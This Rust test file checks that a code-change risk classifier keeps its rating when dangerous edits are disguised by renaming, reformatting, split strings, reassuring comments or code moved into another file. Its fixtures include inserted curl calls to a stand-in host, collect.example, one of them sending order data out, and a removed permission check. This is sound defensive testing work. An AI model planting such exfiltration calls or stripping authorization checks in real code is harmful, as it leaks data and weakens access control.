//! What a change is dressed up as never lowers its class: other names, another layout,
//! strings in pieces, code in another file of the same plan, comments.
#![expect(clippy::unwrap_used, reason = "a test may stop where it fails")]

use exacta_core::judge::examine::{Context, examine};
use exacta_core::judge::facts::{Fact, Inspected, Inspector};
use exacta_core::judge::policy::Policy;
use exacta_core::judge::score::Class;
use exacta_core::model::digest::Blob;
use exacta_core::read::parse::{Limits, draft};
use exacta_inspect::{Request, StepInput, inspect};
use exacta_testkit::memory_tree::MemoryTree;
use serde_json::json;

/// The inspector's own work, in this process.
struct Inside;

impl Inspector for Inside {
    fn inspect(&self, changes: &[Inspected<'_>], manifests: &[Blob]) -> Vec<Fact> {
        let steps = changes.iter().map(StepInput::of);
        let manifests = manifests.iter().map(Blob::bytes).collect();
        inspect(&Request { steps: steps.collect(), manifests, ..Request::default() }).facts
    }
}

/// A file before and after; nothing before where it is new.
type Changed = (String, Option<String>, String);

fn class(files: &[Changed]) -> Class {
    let tree =
        files.iter().filter_map(|(path, before, _)| Some((path.as_str(), before.as_deref()?)));
    let tree = MemoryTree::of(tree);
    let steps: Vec<_> = (1..)
        .zip(files)
        .map(|(number, (path, before, after))| {
            let kind = if before.is_some() { "file_modify" } else { "file_create" };
            json!({"step_id": format!("step_{number}"), "title": format!("Change {path}"),
                "type": kind, "target": path, "content": after})
        })
        .collect();
    let text = json!({"goal": "Change it", "steps": steps}).to_string();
    let plan = draft(text.as_bytes(), Limits::default()).unwrap();
    let examined = examine(plan, &tree, &Inside, &Policy::default(), &Context::default()).unwrap();
    examined.assessment.unwrap().risk.class.unwrap().class
}

/// A change: path, comment mark, before, after, the least class that it has.
struct Case {
    path: &'static str,
    mark: &'static str,
    before: &'static str,
    after: &'static str,
    least: Class,
}

const CASES: &[Case] = &[
    Case {
        path: "shop/orders.py",
        mark: "#",
        before: "LIMIT = 3\n\n\ndef label(order):\n    value = order.name\n    return value\n",
        after: "LIMIT = 30\n\n\ndef label(order):\n    value = order.name\n    return value\n",
        least: Class::Behaviour,
    },
    Case {
        path: "shop/orders.py",
        mark: "#",
        before: "import os\n\n\ndef label(order):\n    value = order.name\n    return value\n",
        after: "import os\n\n\ndef label(order):\n    value = order.name\n    os.system(\"curl https://collect.example/x\")\n    return value\n",
        least: Class::Dangerous,
    },
    Case {
        path: "shop/orders.py",
        mark: "#",
        before: "def cancel(user, order):\n    value = order.owner\n    if value != user.name:\n        raise PermissionError(\"not yours\")\n    order.cancel()\n",
        after: "def cancel(user, order):\n    value = order.owner\n    order.cancel()\n",
        least: Class::Dangerous,
    },
    Case {
        path: "src/label.js",
        mark: "//",
        before: "import { exec } from 'child_process';\n\nexport function label(order) {\n  const value = order.name;\n  return value;\n}\n",
        after: "import { exec } from 'child_process';\n\nexport function label(order) {\n  const value = order.name;\n  exec(\"curl https://collect.example/x\");\n  return value;\n}\n",
        least: Class::Dangerous,
    },
    Case {
        path: "shop/label.go",
        mark: "//",
        before: "package shop\n\nimport \"os/exec\"\n\nfunc Label(order Order) string {\n\tvalue := order.Name\n\treturn value\n}\n",
        after: "package shop\n\nimport \"os/exec\"\n\nfunc Label(order Order) string {\n\tvalue := order.Name\n\texec.Command(\"curl\", \"https://collect.example/x\").Run()\n\treturn value\n}\n",
        least: Class::Dangerous,
    },
    Case {
        path: "src/label.rs",
        mark: "//",
        before: "use std::process::Command;\n\npub fn label(order: &Order) -> String {\n    let value = order.name.clone();\n    value\n}\n",
        after: "use std::process::Command;\n\npub fn label(order: &Order) -> String {\n    let value = order.name.clone();\n    let _ = Command::new(\"curl\").arg(\"https://collect.example/x\").status();\n    value\n}\n",
        least: Class::Dangerous,
    },
    Case {
        path: "shop/orders.py",
        mark: "#",
        before: "def hand_over(store, order, owner, receiver):\n    value = order.number\n    store.ask(owner, value)\n    store.give(receiver, value)\n    return value\n",
        after: "def hand_over(store, order, owner, receiver):\n    value = order.number\n    store.ask(owner, value)\n    store.give(owner, value)\n    return value\n",
        least: Class::Dangerous,
    },
    Case {
        path: "src/label.rs",
        mark: "//",
        before: "pub fn label(store: &Store, order: &Order) -> u64 {\n    let value = order.number;\n    store.note(value);\n    store.close(value);\n    value\n}\n",
        after: "pub fn label(store: &Store, order: &Order) -> u64 {\n    let value = order.number;\n    store.close(value);\n    store.note(value);\n    value\n}\n",
        least: Class::Dangerous,
    },
    Case {
        path: "src/label.js",
        mark: "//",
        before: "export function label(store, order) {\n  const value = order.name;\n  return store.rows[value].find((row) => row.every((one) => one.of === value));\n}\n",
        after: "export function label(store, order) {\n  const value = order.name;\n  return store.rows[value].find((row) => row.some((one) => one.of === value));\n}\n",
        least: Class::Dangerous,
    },
];

fn one(path: &str, before: String, after: String) -> Vec<Changed> {
    vec![(path.to_owned(), Some(before), after)]
}

fn check(case: &Case, how: &str, files: &[Changed]) {
    let found = class(files);
    assert!(found >= case.least, "{} {how}: {found}\n{}", case.path, case.after);
}

#[test]
fn a_change_as_it_is() {
    for case in CASES {
        check(case, "as it is", &one(case.path, case.before.into(), case.after.into()));
    }
}

#[test]
fn other_names() {
    for case in CASES {
        let named = |text: &str| text.replace("value", "amount");
        check(
            case,
            "with another name before and after",
            &one(case.path, named(case.before), named(case.after)),
        );
        check(
            case,
            "with another name after",
            &one(case.path, case.before.into(), named(case.after)),
        );
    }
}

#[test]
fn another_layout_and_comments() {
    for case in CASES {
        let spaced = case.after.replace("\n\n", "\n\n\n\n").replace(" = ", "  =  ");
        check(case, "in another layout", &one(case.path, case.before.into(), spaced));
        let lines = case.after.lines().map(|line| {
            let indent: String = line.chars().take_while(|c| c.is_whitespace()).collect();
            format!("{indent}{} Only words stand here, more of them than anybody would look back over.\n{line}\n", case.mark)
        });
        check(case, "among comments", &one(case.path, case.before.into(), lines.collect()));
        let safe = format!("{}{} This is safe and was reviewed.\n", case.after, case.mark);
        check(case, "with a promise", &one(case.path, case.before.into(), safe));
    }
}

/// What formatters change, and a local with another name in the same lines, hide nothing.
#[test]
fn as_a_formatter_leaves_it() {
    for case in CASES {
        let broken = case.after.replace("(order)", "(\n        order,\n    )");
        check(case, "with broken lines", &one(case.path, case.before.into(), broken.clone()));
        let quoted = case.after.replace('"', "'");
        let ending = case.path.rsplit('.').next().unwrap_or_default();
        if matches!(ending, "py" | "js") {
            check(case, "with other quotes", &one(case.path, case.before.into(), quoted));
        }
        if ending == "js" {
            let ended = case.after.replace(";\n", "\n");
            check(case, "without semicolons", &one(case.path, case.before.into(), ended));
        }
        let named = broken.replace("value", "shown_name");
        check(case, "and with another name", &one(case.path, case.before.into(), named));
    }
}

/// Nobody has to look at it: only the name of a local is another one.
#[test]
fn a_renamed_local_is_no_more_than_that() {
    for case in CASES {
        let named = case.before.replace("value", "shown_name");
        assert_ne!(named, case.before, "{}", case.path);
        let found = class(&one(case.path, case.before.into(), named));
        assert_eq!(found, Class::Neutral, "{}", case.path);
    }
}

#[test]
fn strings_in_pieces() {
    for case in CASES {
        let plus = case.after.replace("https://collect.example", "https://coll\" + \"ect.example");
        // Rust has no sum of texts: another form of the same literal.
        let plus = if case.path.rsplit('.').next() == Some("rs") {
            case.after.replace(
                "\"https://collect.example/x\"",
                "concat!(\"https://coll\", \"ect.example/x\")",
            )
        } else {
            plus
        };
        check(case, "in pieces", &one(case.path, case.before.into(), plus));
    }
}

#[test]
fn code_in_another_file_of_the_plan() {
    let before =
        "from shop.names import name_of\n\n\ndef label(order):\n    return name_of(order)\n";
    let after = "from shop.names import name_of\nfrom shop.tell import tell\n\n\ndef label(order):\n    tell(order)\n    return name_of(order)\n";
    let other = "import os\n\n\ndef tell(order):\n    os.system(\"curl https://collect.example/\" + order.name)\n";
    let together = class(&[
        ("shop/orders.py".into(), Some(before.into()), after.into()),
        ("shop/tell.py".into(), None, other.into()),
    ]);
    assert_eq!(together, Class::Dangerous);
    let plain = "def tell(order):\n    order.told = True\n";
    let moved = class(&[
        ("shop/orders.py".into(), Some(before.into()), after.into()),
        ("shop/tell.py".into(), None, plain.into()),
    ]);
    assert!(moved >= Class::Behaviour, "{moved}");
}

#[test]
fn a_comment_and_a_test_are_no_more_than_that() {
    let before = "def label(order):\n    value = order.name\n    return value\n";
    let after = "def label(order):\n    value = order.name\n    # The name is what people see.\n    return value\n";
    assert_eq!(class(&one("shop/orders.py", before.into(), after.into())), Class::Neutral);
    let test =
        "from shop.orders import label\n\n\ndef test_label():\n    assert label(None) == 1\n";
    let more = format!("{test}\n\ndef test_again():\n    assert label(None) == 2\n");
    let found = class(&[
        ("shop/orders.py".into(), Some(before.into()), after.into()),
        ("tests/test_orders.py".into(), Some(test.into()), more),
    ]);
    assert_eq!(found, Class::Additive);
}
